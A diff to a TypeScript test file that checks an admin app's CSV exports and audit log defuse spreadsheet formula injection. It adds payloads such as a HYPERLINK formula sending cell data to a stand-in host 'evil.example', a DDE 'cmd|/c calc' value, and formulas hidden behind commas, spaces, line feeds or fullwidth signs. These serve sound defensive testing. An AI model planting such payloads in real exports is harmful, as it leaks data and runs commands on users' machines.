@@ -16,13 +16,34 @@ let web: WebApp;
 let admin: AdminClient;
 
 const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")', '@SUM(1+1)*cmd|"/c calc"!A0', '+33 6 00 00 00 00', '-2+3', '\tTabulé', '\rRetour'];
+/** Formulas further in: after a comma (a spreadsheet that splits on `,`), after spaces, after a line feed, in fullwidth. */
+const HIDDEN = ['Dupont,=HYPERLINK("https://evil.example")', '  =1+1', '\n=1+1', '＝1+1', 'Martin,@SUM(A1)'];
+/** Every cell of a CSV line is quoted: `"…";"…"`, with `"` doubled inside. */
+const allQuoted = (text: string) => parseCsvRaw(text).every((row) => row.every((cell) => /^"(?:[^"]|"")*"$/s.test(cell)));
+
+/** The cells of a CSV as written, quotes included (`;`, or another separator as a spreadsheet may choose). */
+function parseCsvRaw(text: string, separator = ';'): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (c === '"') quoted = !quoted;
+    if (!quoted && c === separator) (row.push(cell), (cell = ''));
+    else if (!quoted && c === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
+    else cell += c;
+  }
+  if (cell || row.length) (row.push(cell), rows.push(row));
+  return rows;
+}
 
 beforeAll(async () => {
   db = await freshDatabase();
   await importDoc(db.ds, example());
   web = await serveApp(db);
   admin = await AdminClient.signIn(web.url, 'admin');
-  for (const name of HOSTILE) expect((await admin.create('Account', { name })).status).toBe(200);
+  for (const name of [...HOSTILE, ...HIDDEN]) expect((await admin.create('Account', { name })).status).toBe(200);
 });
 afterAll(async () => {
   await web?.close();
@@ -46,5 +67,16 @@ describe('finding 6: exports never write a live formula', () => {
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     const changes = rows.slice(1).map((row) => row[8]).join('\n');
     expect(changes).toContain('=HYPERLINK'); // inside its cell, after "name : (vide) → "
+  });
+
+  it('every cell is quoted, and a formula hidden after a comma, spaces, a line feed or in fullwidth is defused too', async () => {
+    const csv = (await admin.export('Account')).body.csv.replace(/^\uFEFF/, '');
+    expect(allQuoted(csv)).toBe(true);
+    const names = parseCsv(csv).map((row) => row[parseCsv(csv)[0].indexOf('name')]);
+    for (const name of HIDDEN.filter((n) => !n.includes(','))) expect(names).toContain(`'${name}`);
+    // Read as a spreadsheet that splits on commas would: no cell starts a formula.
+    for (const cell of parseCsvRaw(csv, ',').flat()) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+    const audit = await fetch(`${web.url}/admin/portier/audit.csv?module=Account&action=create`, { headers: { cookie: admin.cookie } });
+    expect(allQuoted((await audit.text()).replace(/^\uFEFF/, ''))).toBe(true);
   });
 });
